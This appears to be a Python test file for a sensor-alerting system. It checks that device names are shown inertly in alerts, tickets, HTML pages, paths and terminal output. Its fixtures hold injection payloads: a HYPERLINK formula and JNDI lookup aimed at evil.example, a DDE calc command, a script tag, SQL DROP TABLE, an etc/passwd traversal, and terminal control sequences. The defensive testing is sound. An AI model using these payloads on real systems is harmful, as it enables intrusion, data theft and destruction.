"""What devices and orchestrators call things never means anything where it is shown or used: it is only ever a name.

Queries need no test of their own here: DynamoDB's take values as placeholders, and there is no SQL.
"""

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from click.testing import CliRunner

from lambdas.sensors.show_incident.page import Shown, incident_page
from lambdas.sensors.stores import KnownIncident, Sensor
from overcut.etl_jobs.layout import bucket_of as bucket_of_job
from overcut.plain_text import visible
from overcut.sensors.alerts import SEGMENT_LENGTH, compose
from overcut.sensors.backtest import Replay
from overcut.sensors.cohorts import cohort_id
from overcut.sensors.incidents import Answer, IncidentState, Response, TextKind
from overcut.sensors.layout import bucket_of
from overcut.sensors.readings import Reading, RefusedReadingError, make_reading
from tests.etl_fakes import verdict
from tests.unit.test_alerts import MINUTE, NOON, incident
from tests.unit.test_tickets import texts
from workbench.backtest_page import backtest_page
from workbench.sensors_commands import sensors
from workbench.sensors_system import SensorsSystem

NOW = datetime(2026, 3, 2, tzinfo=UTC)
PRINTABLE = {
    "formula": '=HYPERLINK("https://evil.example","pay")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": "<script src=https://evil.example></script><b>x",
    "markdown": "![x](https://evil.example/x.png) [y](javascript:alert(1))",
    "sql": "x'; DROP TABLE runs; --",
    "path": "../../models/sensors/../../etc/passwd",
    "markup": "[link=https://evil.example]x[/link] [/bold]",
    "template": "{0.__class__} ${jndi:ldap://evil.example} %s $.until",
    "long": "W" * 128,
}
UNSEEN = {
    "line": "a\nALERT everything: b\rc",
    "escape sequence": "a\x1b]0;b\x07\x1b[2Jc",
    "nul": "a\x00b",
    "backspace": "a\x08b",
    "right to left": "a\u202egnp.exe",
    "isolate": "a\u2066b\u2069",
    "zero width": "a\u200bb\ufeffc",
    "line separator": "a\u2028b\u0085c",
    "tag": "a\U000e0041b",
}
EVERY_NAME = pytest.mark.parametrize("name", [*PRINTABLE.values(), *UNSEEN.values()], ids=[*PRINTABLE, *UNSEEN])


class Page(HTMLParser):
    """The tags of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.said: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.said.append(data)


@pytest.mark.parametrize("name", UNSEEN.values(), ids=UNSEEN)
def test_what_is_not_seen_is_no_sensor_s_id(name: str) -> None:
    with pytest.raises(RefusedReadingError, match="control character"):
        make_reading(name, "2026-03-02T00:00:00Z", {"t": 1.0}, measures=["t"], now=NOW)


@EVERY_NAME
def test_a_text_is_one_line_of_plain_characters(name: str) -> None:
    for kind in TextKind:
        for told in ([incident("unit", name=name, site=name)], [incident(f"unit-{k}", name=name) for k in range(3)]):
            body = compose(told, kind)
            assert len(body) <= SEGMENT_LENGTH
            assert re.fullmatch(r"[ -Z_a-z]+", body), body


@EVERY_NAME
def test_a_ticket_holds_names_that_mean_nothing(name: str) -> None:
    hostile = verdict(0, job_name=name)
    plain = texts(verdict(0))[0]
    title, body = texts(hostile)[0]
    assert title[0] not in "=+-@"
    assert body.count("\n") == plain[1].count("\n"), "a name makes no line of its own"
    for told in (title, *body.splitlines()):
        assert told.isprintable()
        assert not re.search(r"[<>]|\]\(", told), told


@EVERY_NAME
def test_a_page_shows_a_name_and_is_not_changed_by_it(name: str) -> None:
    def page(named: str) -> Page:
        return Page(backtest_page(named, [(named, named, named)], [], Replay([], {}, {}, {}, []), [], []))

    assert page(name).tags == page("unit-1").tags
    assert name in "".join(page(name).said)


@EVERY_NAME
def test_an_incident_s_page_shows_a_name_and_is_not_changed_by_it(name: str) -> None:
    def page(named: str) -> str:
        one = incident("unit", name=named, site=named, state=IncidentState.RECOVERED)
        told = replace(one.cause, measure=named, unit=named)
        response = Response(Answer.ON_IT, named, NOON)
        known = KnownIncident(replace(one, cause=told, response=response, recovered_at=NOON), "", False)
        readings = [Reading("unit", NOON + k * MINUTE, {named: 4.0 + k}) for k in range(5)]
        names = [named, named]
        shown = Shown(known, names, readings, (1.0, 5.0), known, "nonce", NOON + timedelta(hours=1), MINUTE)
        return incident_page(shown)

    assert Page(page(name)).tags == Page(page("unit-1")).tags
    assert visible(name) in "".join(Page(page(name)).said)
    assert page(name).encode(), "it can be sent"


@EVERY_NAME
def test_a_path_holds_nothing_of_a_name_but_letters_and_digits(name: str) -> None:
    assert re.fullmatch(r"[a-z0-9-]+", cohort_id(name, "device", ["t"]))
    assert 0 <= bucket_of(name, 16) < 16
    assert 0 <= bucket_of_job(name, 16) < 16


@EVERY_NAME
def test_a_terminal_shows_a_name_and_does_not_obey_it(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    found = [Sensor(name, "device", {"t": "C"}, name=name, customer=name, site=name, kind=name)]
    deployed = SimpleNamespace(sensors=SimpleNamespace(all=lambda: found))
    monkeypatch.setattr(SensorsSystem, "deployed", lambda _: deployed)
    monkeypatch.setenv("COLUMNS", "2000")
    ran = CliRunner().invoke(sensors, ["list"])
    assert ran.exit_code == 0, ran.exception
    assert visible(name) in ran.output
    assert all(line.isprintable() for line in ran.output.splitlines())


def test_what_is_seen_stays_as_it_is() -> None:
    assert visible("Kühlhaus 3, größer als 倉庫 [A] {b} 50 %") == "Kühlhaus 3, größer als 倉庫 [A] {b} 50 %"
    assert visible(" a\t b\x1b\u202e\ud800") == r"a b\x1b\u202e\ud800"
